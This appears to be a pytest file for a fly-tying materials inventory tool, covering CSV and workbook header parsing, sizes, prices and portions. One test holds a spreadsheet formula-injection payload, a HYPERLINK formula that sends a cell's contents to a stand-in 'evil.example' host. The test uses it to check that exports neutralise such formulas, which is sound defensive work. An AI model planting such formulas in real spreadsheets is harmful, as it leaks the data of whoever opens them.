"""Lists as people keep them, made rows of a box: headers, units, dates, portions, own columns."""

from __future__ import annotations

import csv
import io
from functools import cache
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tests.real import EXAMPLES, rulebook
from variants.keeping import Keeper
from variants.keeping.cells import price_cell, sizes_cell
from variants.keeping.columns import read_column_words
from variants.keeping.exporting import csv_bytes, table_of, workbook
from variants.keeping.lists import ListReader, StuffList
from variants.keeping.portions import portion, read_sold_as
from variants.reading import InputError
from variants.reading.plain import load_glossary
from variants.reading.sizes import parse_sizes
from variants.rulebook import own_rules_folder

FOLDERS = [own_rules_folder()]


@cache
def reader() -> ListReader:
    trade = rulebook().trade
    return ListReader(
        trade, load_glossary(FOLDERS, trade), read_column_words(FOLDERS), read_sold_as(FOLDERS)
    )


def listed(tmp_path: Path, text: str, **more: object) -> StuffList:
    path = tmp_path / "list.csv"
    path.write_text(text, encoding="utf-8")
    return reader().read(path, **more)  # type: ignore[arg-type]


def test_titles_and_a_merged_header_are_understood() -> None:
    found = reader().read(EXAMPLES / "lists" / "shed.csv")
    assert (found.header.line, found.header.lines) == (3, 2)
    assert [(column.target, column.unit) for column in found.header.columns] == [
        ("item", ""),
        ("material", ""),
        ("colour", ""),
        ("sizes from", ""),
        ("sizes to", ""),
        ("length", "mm"),
        ("amount", ""),
        ("place", ""),
        ("From whom", ""),
    ]
    assert found.faults == []
    assert found.rows[0].values == {
        "item": "Miller's cape",
        "material": "cock cape",
        "colour": "light ginger",
        "sizes": "12-18",
        "amount": "67 feathers",
        "place": "tin trunk",
        "From whom": "the miller",
    }
    assert found.rows[1].values["length"] == "7.5 - 11 mm"
    assert [row.line for row in found.rows] == [5, 6, 7, 8, 9, 10]


def test_merged_header_cells_of_a_workbook_are_understood(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    rows = [
        ["Feathers"],
        ["Name", "Material", "Length in mm", None, "Place", "Value"],
        [None, None, "from", "to", None, None],
        ["a", "hen cape", 6.5, 9, "drawer", "=1+1"],
        ["b", "hen cape", 7, 7, None, None],
    ]
    for row in rows:
        sheet.append(row)
    sheet.merge_cells("A1:F1")
    sheet.merge_cells("C2:D2")
    sheet.merge_cells("E4:E5")
    written = io.BytesIO()
    book.save(written)
    path = tmp_path / "list.xlsx"
    path.write_bytes(written.getvalue())
    found = reader().read(path, fill=["place"])
    assert [row.values["length"] for row in found.rows] == ["6.5-9 mm", "7 mm"]
    assert [row.values["place"] for row in found.rows] == ["drawer", "drawer"]
    # The formula was never worked out by a spreadsheet, and is not worked out here.
    assert all("value" not in row.values for row in found.rows)
    assert found.faults == []


@pytest.mark.parametrize(
    ("text", "sizes"),
    [
        ("12-16", (12, 14, 16)),
        ("#12 - #16", (12, 14, 16)),
        ("16 to 12", (12, 14, 16)),
        ("size 14", (14,)),
        ("12/14", (12, 14)),
        ("12 & 14", (12, 14)),
        ("no. 14", (14,)),
        # Spreadsheets take 12-14 for a day: the fourteenth of December.
        ("14-Dec", (12, 14)),
        ("Dec-14", (12, 14)),
        ("2026-12-14", (12, 14)),
        ("12/14/2026", (12, 14)),
        ("14.12.2026", (12, 14)),
        ("10-Aug", (8, 10)),
    ],
)
def test_sizes_are_read_however_they_are_written(text: str, sizes: tuple[int, ...]) -> None:
    assert parse_sizes(sizes_cell(text)[0]) == sizes


def test_a_size_made_a_date_is_told(tmp_path: Path) -> None:
    found = listed(tmp_path, "item,material,size\na,hen cape,14-Dec\n")
    assert found.rows[0].doubts == ["sizes 12-14: a spreadsheet made a date of it"]


@pytest.mark.parametrize(
    ("text", "price"),
    [
        ("£3.50", "3.50"),
        ("3,50 €", "3.50"),
        ("$ 1,234.50", "1234.50"),
        ("4", "4"),
        ("free", "free"),
    ],
)
def test_prices_lose_their_currency(text: str, price: str) -> None:
    assert price_cell(text) == price


@pytest.mark.parametrize(
    ("material", "said", "amount"),
    [
        ("cock cape", "1 neck", "200 feathers"),
        ("cock cape", "half a neck", "100 feathers"),
        ("cock cape", "1/4 neck", "50 feathers"),
        ("cock cape", "two thirds", "two thirds"),
        ("rabbit fur", "2 packets", "2 g"),
        ("rabbit fur", "1.5 packets", "1.5 g"),
        ("dry fly hook", "a packet", "25 hooks"),
        ("rabbit fur", "1 neck", "1 neck"),
        ("rabbit fur", "3 pinches", "3 pinches"),
        ("cock cape", "1/0 neck", "1/0 neck"),
    ],
)
def test_amounts_may_be_told_as_stuff_is_sold(material: str, said: str, amount: str) -> None:
    stuff = rulebook().trade.material_names[material]
    assert portion(said, stuff, read_sold_as(FOLDERS)).amount == amount


def test_what_columns_are_can_be_told(tmp_path: Path) -> None:
    text = "bin,item,material,secret\nx,a,hen cape,y\n"
    found = listed(tmp_path, text, told={"bin": "place", "secret": ""})
    assert found.rows[0].values == {"place": "x", "item": "a", "material": "hen cape"}
    with pytest.raises(InputError, match="no column 'ban'"):
        listed(tmp_path, text, told={"ban": "place"})


def test_what_a_row_lacks_is_told_with_its_line(tmp_path: Path) -> None:
    found = listed(tmp_path, "item;material;qty\na;hen caep;2\n\nb;partrige zzz;\n")
    assert [fault.origin.line for fault in found.faults] == [2, 2, 4]
    assert "did you mean 'hen cape'" in str(found.faults[0])
    assert all(row.item is None for row in found.rows)


def test_words_settle_material_and_colour(tmp_path: Path) -> None:
    text = "what,where\nolive seal's fur,shelf\ngray duck quills,shelf\n"
    found = listed(tmp_path, text)
    assert [(row.values["material"], row.values["colour"]) for row in found.rows] == [
        ("seal's fur", "medium olive"),
        ("duck wing quill", "grey"),
    ]
    assert found.faults == []


def test_a_list_without_a_header_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no header"):
        listed(tmp_path, "a,b\nc,d\n")
    with pytest.raises(InputError, match="no header"):
        listed(tmp_path, "\n\n")


def test_things_without_a_name_get_one_each(tmp_path: Path) -> None:
    found = listed(tmp_path, "material,colour\nhen cape,brown\nhen cape,brown\n")
    names = [row.values["item"] for row in found.rows]
    assert names == ["hen cape brown", "hen cape brown 2"]


RUNS = '=HYPERLINK("http://evil.example/"&B2)'


def test_a_columns_name_is_guarded_as_cells_are_and_keeps_its_capitals(tmp_path: Path) -> None:
    """What a spreadsheet would run is text in the box and in each export, and reads back."""
    quoted = RUNS.replace('"', '""')
    found = listed(tmp_path, f'Name,Material,My Ref,"{quoted}"\na,hen cape,A7,x\n')
    keeper = Keeper(tmp_path / "box.csv", rulebook().trade)
    keeper.bring_in([row.values for row in found.rows])
    header = (tmp_path / "box.csv").read_text("utf-8").splitlines()[0]
    assert header.endswith(f""",My Ref,"'{quoted}\"""")
    assert keeper.row("a")["my ref"] == "A7"
    for separator in (",", ";", "\t"):
        out = tmp_path / "out.csv"
        out.write_bytes(csv_bytes(table_of(keeper.path), separator))
        (names, _) = csv.reader(out.read_text("utf-8-sig").splitlines(), delimiter=separator)
        assert names[-2:] == ["My Ref", f"'{RUNS}"]
        assert table_of(out) == table_of(keeper.path)
    book = load_workbook(io.BytesIO(workbook(table_of(keeper.path))))
    assert [cell.value for cell in book.active[1]][-2:] == ["My Ref", f"'{RUNS}"]
    keeper.correct("a", {"MY REF": "A8", RUNS: "y", "Shelf No": "3"})
    assert table_of(keeper.path)[0][-3:] == ["My Ref", f"'{RUNS}", "Shelf No"]
    assert keeper.row("a")["my ref"] == "A8"
    keeper.undo()
    assert keeper.row("a")["my ref"] == "A7"
